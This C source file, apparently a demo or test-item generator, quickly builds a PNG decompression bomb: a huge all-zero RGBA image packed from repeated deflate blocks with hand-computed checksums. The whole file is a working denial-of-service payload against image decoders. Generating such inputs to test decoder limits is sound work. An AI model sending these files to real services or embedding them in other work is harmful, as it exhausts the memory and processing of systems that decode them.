/* A decompression bomb that takes milliseconds to make.
 *
 * A black picture of 30 000 x 30 000 RGBA pixels is 3.6 GB of zeros, which
 * deflate packs a thousand times smaller; but packing them would take seconds.
 * So one megabyte of zeros is packed once, ended by a full flush, after which
 * the packer refers to nothing that came before: the same bytes may follow as
 * often as wanted. The checksum of zeros that zlib wants at the end is put
 * together from its parts.
 */
#include "origin/demo_items.h"

#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

enum {
    PIECE = 1 << 20,      /* zeros packed at a time */
    PACKED_ROOM = 1 << 13 /* about four times what a piece needs */
};

static const unsigned char zlib_header[] = { 0x78, 0xda };

typedef struct packed {
    unsigned char bytes[PACKED_ROOM];
    size_t size;
} packed;

/* Deflate `size` zeros, without zlib's header and checksum. `flush` is
 * Z_FULL_FLUSH, or Z_FINISH for the last piece. */
static int pack_zeros(size_t size, int flush, packed *out)
{
    z_stream stream = { 0 };
    unsigned char *zeros = calloc(1, size + 1);
    int rc;

    if (zeros == NULL)
        return -ENOMEM;
    if (deflateInit2(&stream, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY) !=
        Z_OK) {
        free(zeros);
        return -ENOMEM;
    }
    stream.next_in = zeros;
    stream.avail_in = (uInt)size;
    stream.next_out = out->bytes;
    stream.avail_out = sizeof out->bytes;
    rc = deflate(&stream, flush);
    out->size = sizeof out->bytes - stream.avail_out;
    deflateEnd(&stream);
    free(zeros);
    return rc == Z_OK || rc == Z_STREAM_END ? 0 : -ENOMEM;
}

static unsigned char *put_u32(unsigned char *at, uint32_t value)
{
    *at++ = (unsigned char)(value >> 24);
    *at++ = (unsigned char)(value >> 16);
    *at++ = (unsigned char)(value >> 8);
    *at++ = (unsigned char)value;
    return at;
}

static unsigned char *put(unsigned char *at, const void *data, size_t size)
{
    memcpy(at, data, size);
    return at + size;
}

/* A chunk's length and type; its checksum covers the type and what follows. */
static unsigned char *begin_chunk(unsigned char *at, uint32_t size,
                                  const char *type)
{
    return put(put_u32(at, size), type, 4);
}

static unsigned char *end_chunk(unsigned char *at, uint32_t size)
{
    uLong crc = crc32_z(crc32_z(0, NULL, 0), at - size - 4, size + 4);

    return put_u32(at, (uint32_t)crc);
}

static unsigned char *put_header(unsigned char *at, uint32_t side_px)
{
    /* 8 bits, RGBA, and no choice in the rest. */
    static const unsigned char kind[] = { 8, 6, 0, 0, 0 };

    at = put(at, "\x89PNG\r\n\x1a\n", 8);
    at = begin_chunk(at, 13, "IHDR");
    at = put(put_u32(put_u32(at, side_px), side_px), kind, sizeof kind);
    return end_chunk(at, 13);
}

/* The Adler-32 of `size` zeros: the low half stays 1, the high half counts. */
static uint32_t checksum_of_zeros(uint64_t size)
{
    return (uint32_t)(size % 65521) << 16 | 1;
}

static unsigned char *put_pixels(unsigned char *at, uint64_t raw_size,
                                 const packed *piece, const packed *last)
{
    uint64_t pieces = raw_size / PIECE;
    uint32_t size =
        (uint32_t)(sizeof zlib_header + pieces * piece->size + last->size + 4);

    at = begin_chunk(at, size, "IDAT");
    at = put(at, zlib_header, sizeof zlib_header);
    for (uint64_t i = 0; i < pieces; i++)
        at = put(at, piece->bytes, piece->size);
    at = put(at, last->bytes, last->size);
    at = put_u32(at, checksum_of_zeros(raw_size));
    return end_chunk(at, size);
}

int demo_bomb(uint32_t side_px, unsigned char **png, size_t *size)
{
    /* Each row begins with a byte that names its filter: none. */
    uint64_t raw_size = (uint64_t)side_px * (4 * (uint64_t)side_px + 1);
    packed *piece = malloc(2 * sizeof *piece), *last = piece + 1;
    unsigned char *bytes = NULL, *at;
    int rc = -ENOMEM;

    if (piece == NULL)
        return -ENOMEM;
    if (pack_zeros(PIECE, Z_FULL_FLUSH, piece) == 0 &&
        pack_zeros(raw_size % PIECE, Z_FINISH, last) == 0)
        bytes = malloc(raw_size / PIECE * piece->size + last->size + 128);
    if (bytes != NULL) {
        at = put_header(bytes, side_px);
        at = put_pixels(at, raw_size, piece, last);
        at = begin_chunk(at, 0, "IEND");
        at = end_chunk(at, 0);
        *png = bytes;
        *size = (size_t)(at - bytes);
        rc = 0;
    }
    free(piece);
    return rc;
}
